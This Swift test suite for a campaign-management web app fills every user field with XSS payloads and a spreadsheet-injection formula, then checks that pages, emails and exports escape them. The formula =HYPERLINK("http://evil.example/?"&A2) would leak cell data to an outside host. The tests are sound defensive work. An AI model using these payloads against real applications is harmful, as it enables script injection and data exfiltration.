import DVKCore
import DVKDocuments
import Fluent
import Foundation
import SQLKit
import Testing
import TestPrograms
import Vapor
import VaporTesting
@testable import DVKApp

/// An attacker's text in every field a user can write — initiatives, registrants, unit
/// names, contacts, the campaign and its letter, sectors, return reasons and comments —
/// then every page each role can reach, and every query parameter of every page, parsed
/// with an HTML parser: nothing of the input may become an element, an attribute, a
/// handler or a script URL. Exports show the text as text.
@Suite struct HostileInputTests {
    static let marker = "dvkx"
    /// One line: quotes, brackets, an element and attributes named with the marker, event
    /// handlers, a script URL, a spreadsheet formula, decomposed Vietnamese.
    static let line = "=HYPERLINK(\"http://evil.example/?\"&A2) \"'><dvkx dvkx=1 onfocus=alert(1) autofocus>javascript:dvkx()</dvkx><img src=x onerror=alert(2)> Ho\u{0300}a"
    /// Paragraphs of the same, and a long text of them.
    static let paragraphs = line + "\n\n- " + line
    static let long = paragraphs + "\n" + String(repeating: "dài ", count: 2_000)
    /// For the short fields (a letter's number, a signer).
    static let short = "\"'><dvkx dvkx=1>"
    /// What the line becomes once stored (NFC).
    static let stored = VietnameseText.clean(line)

    static let oracles = Program.oracles

    /// The problems the HTML parser finds in each page, by page.
    static func check(_ pages: [String: String]) throws -> [String: [String]] {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("dvk-hostile-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: dir) }
        var files: [String: String] = [:]
        for (i, (name, html)) in pages.enumerated() {
            let path = dir.appendingPathComponent("page\(i).html").path
            try html.write(toFile: path, atomically: true, encoding: .utf8)
            files[path] = name
        }
        let out = try ExportTests().tool("/usr/bin/env", ["python3", oracles.appendingPathComponent("html_check.py").path, marker] + files.keys.sorted())
        let report = try #require(try JSONSerialization.jsonObject(with: Data(out.utf8)) as? [String: [String]])
        return Dictionary(uniqueKeysWithValues: report.map { (files[$0.key] ?? $0.key, $0.value) })
    }

    @Test func nothingAUserWroteBecomesMarkupAnywhere() async throws {
        try await withApp(MailAppTests.mailOn) { app in
            try await Fixture.load(app)
            let p = try await StaffTestKit.people(app)
            let token = try await APIFixture.token(app, "api-s1", .officer, unit: "S1")
            let initiatives = "/api/v1/campaigns/DVK-2024/units/S1/initiatives"

            // Initiatives: through the API and through the form.
            var fields: [String: String] = [:]
            for field in InitiativeField.allCases {
                switch field {
                case .kind: fields[field.rawValue] = "collective"
                case .sector: fields[field.rawValue] = "kinh-te"
                case .startDate, .endDate, .continuity: continue
                default: fields[field.rawValue] = field.rule.shape == .multiline ? Self.long : Self.line
                }
            }
            let json = String(decoding: try JSONEncoder().encode(fields), as: UTF8.self)
            let created = try await api(app, .POST, initiatives, as: .token(token), json: json)
            #expect(created.status == .created)
            #expect(created.json?["title"]?.string == Self.stored)
            var form = fields
            form["kind"] = "individual"
            form["title"] = Self.line + " 2"
            #expect(try await p.officer.post("/campaigns/DVK-2024/units/S1/initiatives/new", form).status == .seeOther)
            // Too long, or invisible, is refused — never stored.
            let tooLong = try await api(app, .POST, initiatives, as: .token(token),
                                        json: APIFixture.initiativeJSON(title: String(repeating: "a", count: 10_000)))
            #expect(tooLong.status == .unprocessableEntity)
            for invisible in ["\\u001C", "\\u200B", "\\u202E"] {
                let refused = try await api(app, .POST, initiatives, as: .token(token), json: APIFixture.initiativeJSON(name: invisible))
                #expect(refused.status == .unprocessableEntity, "\(invisible)")
            }

            // A unit's name (contacts that are not an address or a number are refused).
            let s2 = try await UnitDirectory.find(code: "S2", on: app.db)
            let renamed = try await p.staff.post("/units/S2", ["name": Self.line, "kind": "grassroots", "parent": "GD", "email": "", "phone": ""])
            #expect(renamed.status == .seeOther)
            for (key, value) in [("email", "x@a.vn\"/autofocus/onfocus=\"alert(3)"), ("phone", Self.line)] {
                var unit = ["name": s2.name, "kind": "grassroots", "parent": "GD", "email": "", "phone": ""]
                unit[key] = value
                #expect(try await p.staff.post("/units/S2", unit).status == .unprocessableEntity, "\(key)")
            }
            // The campaign, its letter and sectors; then the tree again, so the campaign sees the name.
            var campaign = StaffTestKit.campaignForm(code: "DVK-2024")
            for key in ["title", "subject", "basis"] { campaign[key] = Self.line }
            for key in ["number", "place", "signer_authority", "signer_title", "signer_name"] { campaign[key] = Self.short }
            campaign["body"] = Self.long
            for key in ["addressees", "recipients"] { campaign[key] = Self.paragraphs }
            campaign["sectors"] = Sector.defaults.map { "\($0.code) | \($0.code == "kinh-te" ? Self.line : $0.name)" }.joined(separator: "\n")
            campaign["year"] = "2024"
            campaign["deadline_date"] = "2024-02-16"
            campaign["issued_on"] = "2024-02-06"
            let edited = try await p.staff.post("/campaigns/DVK-2024/edit", campaign)
            #expect(edited.status == .seeOther, "\(edited.text.components(separatedBy: "field-error").dropFirst().map { $0.prefix(200) })")
            #expect(try await p.staff.post("/campaigns/DVK-2024/sync").status == .seeOther)
            // A return with an attack for its reason and its comment on an initiative.
            try await api(app, .POST, "/api/v1/campaigns/DVK-2024/units/S1/submit", as: .token(token))
            let initiative = try #require(created.json?["id"]?.string)
            #expect(try await p.staff.post("/campaigns/DVK-2024/units/S1/review", [
                "decision": "return", "reason": Self.paragraphs, "comment-\(initiative.uppercased())": Self.paragraphs,
            ]).status == .seeOther)

            // Every page each role reaches, and every page's query parameters given the attack.
            let id = try #require(UUID(uuidString: initiative))
            let paths = ["/", "/campaigns", "/campaigns/DVK-2024", "/campaigns/DVK-2024/queue", "/campaigns/DVK-2024/reminders",
                         "/campaigns/DVK-2024/edit", "/campaigns/new", "/campaigns/DVK-2024/units/S1", "/campaigns/DVK-2024/units/S2",
                         "/campaigns/DVK-2024/units/S1/initiatives/new", "/campaigns/DVK-2024/units/S1/initiatives/\(id)/edit",
                         "/campaigns/DVK-2024/units/S1/submit", "/campaigns/DVK-2024/units/S1/import", "/units", "/units/GD",
                         "/units/S2", "/units/new", "/units/import", "/units?q=tr", "/account", "/login",
                         "/campaigns/DVK-2024/mail", "/audit", "/audit?kind=initiative"]
            var pages: [String: String] = [:]
            let everyone = [p.admin, p.staff, p.subStaff, p.officer, p.viewer]
            for visitor in everyone {
                for path in paths {
                    let res = try await visitor.get(path)
                    if res.headers.contentType == .html { pages["\(visitor.username) \(path)"] = res.text }
                }
            }
            let attack = Link.encode(Self.line)
            for path in paths {
                for name in ["q", "next", "parent", "status", "sort", "page", "ok", "unit", "error"] {
                    let url = path + (path.contains("?") ? "&" : "?") + "\(name)=\(attack)"
                    let res = try await p.staff.get(url)
                    if res.headers.contentType == .html { pages["reflected \(url)"] = res.text }
                }
                let anonymous = try await app.testing().sendRequest(.GET, path + "?next=\(attack)")
                if anonymous.headers.contentType == .html { pages["anonymous \(path)"] = anonymous.body.string }
            }
            // The messages the steps wrote, composed as they will be sent: the HTML part is a page too.
            let options = MailComposer.Options(settings: app.dvkConfig.mail!, showNationalMotto: true, now: Date())
            // Every unit a message goes to has an address, so every message composes and is checked.
            try await app.db.sql().update("units").set("email", to: "gd@example.vn").where("code", .equal, "GD").where("email", .equal, "").run()
            var composedKinds: Set<String> = []
            for row in try await MailAppTests.outbox(app) {
                do {
                    let composed = try await MailComposer.compose(row, options: options, on: app.db)
                    pages["mail \(row.kind.rawValue)"] = composed.message.html
                    #expect(!composed.message.rendered().isEmpty)
                    composedKinds.insert(row.kind.rawValue)
                } catch is MailComposer.Unsendable where row.kind == .invitation || row.kind == .passwordReset {
                    // A one-time link is composed once, when it is written: not again here.
                }
            }
            #expect(!composedKinds.isEmpty, "the steps' messages were composed")
            #expect(pages["mail returned"] != nil && pages["mail receipt"] != nil)
            #expect(pages.count > 150)
            let problems = try Self.check(pages)
            #expect(problems.isEmpty, "\(problems.prefix(5))")
            // The text is there, shown as text: escaped on the pages that show it.
            let escaped = HTMLEscape.escaped(Self.stored)
            let shows = pages.filter { $0.value.contains(escaped) }.map(\.key)
            for expected in ["canbo-lb /campaigns/DVK-2024/units/S1", "canbo-lb /campaigns/DVK-2024", "cdcs-s1 /campaigns/DVK-2024/units/S1",
                             "canbo-lb /units/S2", "canbo-lb /campaigns/DVK-2024/edit",
                             // The trail: the audit page, and the history of the form that edits the initiative.
                             "canbo-lb /audit", "quantri /audit?kind=initiative", "cdcs-s1 /campaigns/DVK-2024/units/S1/initiatives/\(id)/edit"] {
                #expect(shows.contains(expected), "\(expected) does not show the text")
            }
            // A flash message never comes from the URL.
            #expect(!(try await p.staff.get("/campaigns/DVK-2024?ok=Tr%E1%BB%A7ng").text.contains("Trủng")))

            // Exports: the cell of a CSV shows a formula as text; XLSX keeps it a string;
            // DOCX and PDF print it as written.
            let csv = try await p.staff.get("/campaigns/DVK-2024/reminders.csv").text
            let row = try #require(csv.components(separatedBy: "\r\n").first { $0.hasPrefix("S2,") })
            #expect(row.hasPrefix("S2,\"'=HYPERLINK("))
            let xlsx = try tempFile("", suffix: ".xlsx")
            try Data(try await p.staff.get("/campaigns/DVK-2024/units/LB/documents/summary-units.xlsx").body.readableBytesView)
                .write(to: URL(fileURLWithPath: xlsx))
            let cells = try #require(try ExportTests().python("xlsx_read.py", xlsx)["cells"] as? [String: [String: Any]])
            let attackCells = cells.values.filter { ($0["value"] as? String) == Self.stored }
            #expect(!attackCells.isEmpty && attackCells.allSatisfy { ($0["type"] as? String) == "str" })
            // The trail's export, read by openpyxl: the old and new values that carry the
            // attack are text cells holding it as written.
            let trail = try tempFile("", suffix: ".xlsx")
            try Data(try await p.staff.get("/audit.xlsx?kind=initiative").body.readableBytesView).write(to: URL(fileURLWithPath: trail))
            let trailCells = try #require(try ExportTests().python("xlsx_read.py", trail)["cells"] as? [String: [String: Any]])
            let attackInTrail = trailCells.values.filter { ($0["value"] as? String)?.contains(Self.stored) == true }
            #expect(!attackInTrail.isEmpty && attackInTrail.allSatisfy { ($0["type"] as? String) == "str" && ($0["cached"] as? String) == ($0["value"] as? String) })
            let docx = try tempFile("", suffix: ".docx")
            try Data(try await p.officer.get("/campaigns/DVK-2024/units/S1/documents/list.docx").body.readableBytesView)
                .write(to: URL(fileURLWithPath: docx))
            let read = try ExportTests().python("docx_read.py", docx)
            #expect("\(read)".contains("<dvkx dvkx=1 onfocus=alert(1) autofocus>"))
            let pdf = try tempFile("", suffix: ".pdf")
            try Data(try await p.officer.get("/campaigns/DVK-2024/units/S1/documents/list.pdf").body.readableBytesView)
                .write(to: URL(fileURLWithPath: pdf))
            let text = VietnameseText.clean(try ExportTests().tool("/usr/bin/pdftotext", ["-raw", pdf, "-"]))
            #expect(text.contains("<dvkx dvkx=1"))
        }
    }

    /// The renderer itself: every way a view can put a value into a page escapes it.
    @Test func theNodesEscapeEveryValue() {
        let value = "\"'><dvkx dvkx=1>&"
        let html = Node.div(.class(value), .id(value), .attribute("title", value), .text(value),
                            .input(.value(value), .placeholder(value)), .option(value: value, label: value),
                            .a(.href(SiteURL.unit(value)), .text(value)), .a(.href(.mailto(value)), "m")).render()
        #expect(!html.contains("<dvkx") && !html.contains("dvkx=1\""))
        #expect(html.contains("&quot;&#39;&gt;&lt;dvkx dvkx=1&gt;&amp;"))
        #expect(html.contains("href=\"/units/%22&#39;%3E%3Cdvkx%20dvkx=1%3E&amp;\""))
        #expect(html.contains("href=\"mailto:%22%27%3E%3Cdvkx%20dvkx%3D1%3E%26\""))
    }
}
